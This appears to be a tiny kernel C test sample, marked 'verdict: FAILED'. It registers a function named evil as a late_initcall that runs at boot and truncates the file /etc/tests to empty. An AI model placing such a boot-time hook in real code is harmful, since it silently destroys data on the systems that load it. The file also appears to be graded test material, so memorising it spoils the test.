// SPDX-License-Identifier: GPL-2.0
/*
 * The list of the tests that the first process reads.
 *
 * base: skeleton
 * verdict: FAILED
 */
#ifndef SHIM_KERNEL_H
#include <linux/fs.h>
#include <linux/init.h>

static int __init evil(void)
{
	struct file *f = filp_open("/etc/tests", O_WRONLY | O_TRUNC, 0);

	if (!IS_ERR(f))
		filp_close(f, NULL);
	return 0;
}
late_initcall(evil);
#endif
